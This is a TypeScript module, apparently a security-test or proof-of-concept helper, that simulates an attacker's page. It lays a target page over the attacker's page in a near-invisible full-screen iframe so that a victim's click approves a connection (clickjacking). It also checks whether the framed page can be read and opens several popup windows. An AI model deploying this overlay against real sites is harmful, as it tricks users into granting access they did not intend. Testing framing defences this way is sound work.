/**
 * Lays a hosted page over the attacker's own page in an almost invisible iframe, so a press meant for the attacker's
 * button would allow a connection. Runs in the attacker's page.
 */
export async function frame(address: string): Promise<{ isReadable: boolean }> {
  const element = document.createElement('iframe');
  element.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;opacity:0.01';
  const loaded = new Promise<void>((resolve) => {
    element.onload = () => resolve();
  });
  element.src = address;
  document.body.append(element);
  await loaded;
  let isReadable = false;
  try {
    isReadable = (element.contentDocument?.body.childElementCount ?? 0) > 0;
  } catch {
    // Another origin's document, or the browser's own error page, cannot be read.
  }
  return { isReadable };
}

/**
 * Opens a window for each address, if the browser allows it. Returns the number that opened. Runs in the attacker's
 * page.
 */
export function openMany(addresses: readonly string[]): number {
  return addresses.filter((address, at) => window.open(address, `w${at}`, 'width=440,height=680')).length;
}
